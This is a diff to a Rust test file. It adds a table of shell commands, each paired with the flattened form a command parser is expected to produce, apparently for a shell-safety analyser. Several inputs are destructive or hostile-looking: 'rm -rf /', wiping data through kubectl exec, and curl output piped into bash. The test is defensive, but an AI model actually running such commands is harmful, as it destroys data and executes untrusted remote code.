@@ -240,6 +240,70 @@ fn ssh_and_containers() {
 }
 
 #[test]
+fn nested_and_real_world() {
+    run_table(
+        "real-world",
+        &[
+            (
+                "FOO=$(curl x) bash -c \"$FOO\"",
+                "curl x >arg:1 ⏎ [shell(bash)] FOO=$(…) $FOO",
+            ),
+            ("echo $(rm -rf /) &", "rm -rf / >arg:1 ⏎ echo $(…) &"),
+            (
+                "nohup bash -c 'x' > /dev/null 2>&1 &",
+                "[nohup>shell(bash)] x &",
+            ),
+            ("xargs -0 rm < list", "[xargs] rm <list"),
+            (
+                "sudo -u bob -- bash -lc 'cd /srv && git pull'",
+                "[sudo(bob)>shell(bash)] cd /srv ⏎ [sudo(bob)>shell(bash)] git pull cwd=/srv",
+            ),
+            (
+                "find . -type f -print0 | xargs -0 sed -i s/a/b/",
+                "find . -type f -print0 >pipe:1 ⏎ [xargs] sed -i s/a/b/ <stdin:0>",
+            ),
+            (
+                "git commit -m \"$(cat <<'EOF'\nfix: rm -rf stuff\nEOF\n)\"",
+                "cat <<[fix: rm -rf stuff\\n] >arg:1 ⏎ git commit -m $(…)",
+            ),
+            (
+                "X=$(mktemp) && curl -o $X http://x && bash $X",
+                "mktemp >var:X ⏎ X=$(…) ⏎ curl -o $X http://x ⏎ bash $X",
+            ),
+            (
+                "cd /tmp; for f in *; do rm -rf \"$f\"; done",
+                "cd /tmp ⏎ rm -rf $f cwd=/tmp",
+            ),
+            (
+                "env -i PATH=/bin sh -c 'rm -rf /tmp/$USER'",
+                "[env>shell(sh)] PATH=/bin rm -rf /tmp/$USER",
+            ),
+            (
+                "ssh user@h \"cd /var/www && rm -rf cache\"",
+                "ssh user@h 'cd /var/www && rm -rf cache' ⏎ [ssh(h)] cd /var/www cwd=? ⏎ [ssh(h)] rm -rf cache cwd=/var/www",
+            ),
+            (
+                "docker run -v $(pwd):/src img make",
+                "pwd >arg:1 ⏎ docker run -v $(…):/src img make ⏎ [docker run(img)] make",
+            ),
+            ("timeout 5 sudo -n true", "[timeout>sudo] true"),
+            (
+                "kubectl exec pod -- bash -c 'rm -rf /data/*'",
+                "kubectl exec pod -- bash -c 'rm -rf /data/*' ⏎ [kubectl exec(pod)>shell(bash)] rm -rf /data/*",
+            ),
+            (
+                "xargs sh -c 'rm -rf \"$1\"' _",
+                "[xargs>shell(sh)] rm -rf $1",
+            ),
+            (
+                "sudo xargs -I{} ssh {} reboot",
+                "[sudo>xargs] ssh {} reboot ⏎ [sudo>xargs>ssh({})] reboot cwd=?",
+            ),
+        ],
+    );
+}
+
+#[test]
 fn decode_and_run() {
     // "cm0gLXJmIC90bXAveA==" is base64 for "rm -rf /tmp/x"; the hex is "rm -rf /tmp/x".
     run_table(
